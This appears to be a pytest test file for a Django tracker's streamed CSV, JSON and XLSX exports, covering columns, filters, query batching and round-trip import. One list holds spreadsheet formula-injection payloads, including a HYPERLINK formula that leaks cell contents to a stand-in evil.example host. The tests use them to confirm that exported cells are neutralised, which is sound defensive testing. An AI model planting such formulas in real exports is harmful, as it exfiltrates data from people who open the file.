"""Streamed CSV and JSON exports: exact columns and rows, filters, batching without N+1, round trip."""

import csv
import io
import json

import openpyxl
import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from tests import factories
from tests.api_world import build_world
from tracker.api.exports import iter_rows
from tracker.enums import ItemKind, ReviewState, Status, Strength
from tracker.item_import import import_items_csv
from tracker.models import Item
from tracker.spreadsheet import ITEM_CSV_COLUMNS, split_cell

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_throttles():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def world():
    return build_world()


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM Excel needs to read UTF-8
    text = text[1:]
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == ITEM_CSV_COLUMNS
    return list(reader)


def expected_row(world, item, **overrides) -> dict:
    base = dict.fromkeys(ITEM_CSV_COLUMNS, "")
    base.update(
        reference=item.reference,
        kind=item.kind,
        title=item.title,
        text=item.text,
        status=item.status,
        review_state=item.review_state,
        strength=item.strength,
        date=item.date.isoformat() if item.date else "",
        document=item.document.slug,
        url="http://testserver" + item.get_absolute_url(),
    )
    base.update(overrides)
    names = {obj.slug: obj.name for obj in (world.nato, world.eu, world.serbia, world.root, world.child, world.other)}
    base.update(
        kind_label=dict(ItemKind.choices)[base["kind"]],
        status_label=dict(Status.choices)[base["status"]],
        review_state_label=dict(ReviewState.choices)[base["review_state"]],
        strength_label=dict(Strength.choices)[base["strength"]],
        quote=" […] ".join(citation.quote for citation in item.citations.all()),
        document_title=item.document.title,
        source_url=item.document.url,
        made_by_names="; ".join(names[slug] for slug in split_cell(base["made_by"])),
        addressed_to_names="; ".join(names[slug] for slug in split_cell(base["addressed_to"])),
        theme_names="; ".join(names[slug] for slug in split_cell(base["themes"])),
    )
    return base


def test_csv_export_has_exactly_the_spreadsheet_columns_and_rows(world):
    response = APIClient().get("/api/v1/items/export.csv", {"actor": "nato"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="items-')
    rows = read_csv(response)
    assert rows == [
        expected_row(
            world,
            world.i1,
            status="implemented",
            status_date="2022-01-01",
            status_note="Signed.",
            status_evidence_url="https://example.org/cefta",
            section="4.3",
            made_by="nato",
            addressed_to="serbia",
            themes="w-child",
        ),
        expected_row(
            world,
            world.i2,
            status="stalled",
            status_date="2021-06-01",
            made_by="eu",
            addressed_to="nato",
            themes="w-root",
        ),
    ]


def test_json_export_is_an_array_of_the_same_rows(world):
    response = APIClient().get("/api/v1/items/export.json", {"kind": "proposal"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    rows = json.loads(b"".join(response.streaming_content))
    assert rows == [expected_row(world, world.i3)]
    assert list(rows[0]) == list(ITEM_CSV_COLUMNS)


def test_export_of_nothing_is_a_header_or_an_empty_array(world):
    assert read_csv(APIClient().get("/api/v1/items/export.csv", {"q": "nothing-matches-this"})) == []
    response = APIClient().get("/api/v1/items/export.json", {"q": "nothing-matches-this"})
    assert json.loads(b"".join(response.streaming_content)) == []


def test_export_rejects_bad_filters_with_a_json_400(world):
    for path in ("/api/v1/items/export.csv", "/api/v1/items/export.json"):
        response = APIClient().get(path, {"theme": "nope"}, HTTP_ACCEPT="text/csv")
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        assert response.json() == {"theme": ["Unknown theme id or slug: “nope”."]}


def test_export_queries_per_batch_not_per_item():
    document = factories.DocumentFactory()
    actors = factories.ActorFactory.create_batch(2)
    for _ in range(7):
        item = factories.ItemFactory(document=document, made_by=actors, addressed_to=actors[:1])
        factories.StatusUpdateFactory(item=item)
    with CaptureQueriesContext(connection) as queries:
        rows = list(iter_rows(Item.objects.order_by("id"), batch_size=3))
    assert len(rows) == 7
    # three batches (3 + 3 + 1) x (items, made_by, addressed_to, themes, citations, latest status
    # updates) = 18, plus the server-side cursor bookkeeping on PostgreSQL (not captured as separate queries).
    per_batch = 6
    assert len(queries) <= 3 * per_batch + 1
    assert all(row["status_date"] == "2020-01-01" for row in rows)


def test_exported_csv_reads_back_through_import_items_unchanged(world):
    response = APIClient().get("/api/v1/items/export.csv")
    text = b"".join(response.streaming_content).decode()
    result = import_items_csv(io.StringIO(text), dry_run=True)
    assert result.rows == 4
    assert result.items_changed == []
    assert result.status_updates == 0


FORMULA_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed title",
    "\rCarriage title",
    "'Quoted' from the start",
    "''Two apostrophes",
]


def test_csv_export_neutralises_formula_cells_and_imports_them_back_unchanged():
    document = factories.DocumentFactory()
    items = [factories.ItemFactory(document=document, title=title) for title in FORMULA_TITLES]
    items[2].text = "- a bullet that starts with a dash"
    items[2].save()
    response = APIClient().get("/api/v1/items/export.csv", {"ordering": "id"})
    rows = read_csv(response)
    # Every cell a spreadsheet would evaluate starts with an apostrophe (OWASP), and so does a real
    # leading apostrophe, so the import can tell them apart.
    assert [row["title"] for row in rows] == ["'" + title for title in FORMULA_TITLES]
    assert rows[2]["text"] == "'- a bullet that starts with a dash"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    text = b"".join(APIClient().get("/api/v1/items/export.csv", {"ordering": "id"}).streaming_content).decode(
        "utf-8-sig"
    )
    result = import_items_csv(io.StringIO(text))
    assert result.items_changed == []  # the text column is read-only: it compared equal after restoring
    assert [item.title for item in Item.objects.order_by("id")] == FORMULA_TITLES


def test_import_restores_a_neutralised_title_edited_in_a_spreadsheet():
    item = factories.ItemFactory(title="Plain title")
    text = b"".join(APIClient().get("/api/v1/items/export.csv").streaming_content).decode("utf-8-sig")
    edited = text.replace("Plain title", "'=1+1 is a formula in a title")
    result = import_items_csv(io.StringIO(edited))
    assert result.items_changed == [item.reference]
    item.refresh_from_db()
    assert item.title == "=1+1 is a formula in a title"


def test_csv_export_starts_with_a_bom_and_carries_labels_quote_and_source(world):
    world.doc_a.title = "Strategy “for” the region…"
    world.doc_a.url = "https://example.org/strategy"
    world.doc_a.save()
    response = APIClient().get("/api/v1/items/export.csv", {"ordering": "reference"})
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbfreference,kind,kind_label,title,text,quote,status,status_label,")
    row = next(r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))) if r["reference"] == "W-1")
    citation = world.i1.citations.get()
    assert {key: row[key] for key in ("kind_label", "status_label", "review_state_label", "strength_label")} == {
        "kind_label": "Recommendation",
        "status_label": "Implemented",
        "review_state_label": "Confirmed",
        "strength_label": "Must",
    }
    assert row["quote"] == citation.quote
    assert row["document_title"] == "Strategy “for” the region…"
    assert row["source_url"] == "https://example.org/strategy"
    assert (row["made_by_names"], row["addressed_to_names"], row["theme_names"]) == ("NATO", "Serbia", "Child theme")


def test_import_reads_the_bom_file_back_and_ignores_the_reader_columns(world):
    text = b"".join(APIClient().get("/api/v1/items/export.csv").streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    # A stream not opened as utf-8-sig still has the BOM in its first header cell.
    edited = text.replace("Implemented", "Whatever a reader typed").replace("Child theme", "Not a theme")
    result = import_items_csv(io.StringIO(edited), dry_run=True)
    assert (result.rows, result.items_changed, result.status_updates) == (4, [], 0)


def test_xlsx_export_reads_back_with_openpyxl(world):
    world.i2.title = '=HYPERLINK("https://evil.example")'
    world.i2.save()
    response = APIClient().get("/api/v1/items/export.xlsx", {"ordering": "reference"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="items-')
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Items"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ITEM_CSV_COLUMNS
    as_dicts = [dict(zip(ITEM_CSV_COLUMNS, (value or "" for value in row), strict=True)) for row in rows[1:]]
    assert [row["reference"] for row in as_dicts] == ["W-1", "W-2", "W-3", "W-4"]
    assert as_dicts[0] == expected_row(
        world,
        world.i1,
        status="implemented",
        status_date="2022-01-01",
        status_note="Signed.",
        status_evidence_url="https://example.org/cefta",
        section="4.3",
        made_by="nato",
        addressed_to="serbia",
        themes="w-child",
    )
    # Stored as text, not as a formula.
    cell = sheet.cell(row=3, column=ITEM_CSV_COLUMNS.index("title") + 1)
    assert (cell.value, cell.data_type) == ('=HYPERLINK("https://evil.example")', "s")


def test_xlsx_export_rejects_bad_filters_with_a_json_400(world):
    response = APIClient().get("/api/v1/items/export.xlsx", {"theme": "nope"})
    assert response.status_code == 400
    assert response.json() == {"theme": ["Unknown theme id or slug: “nope”."]}
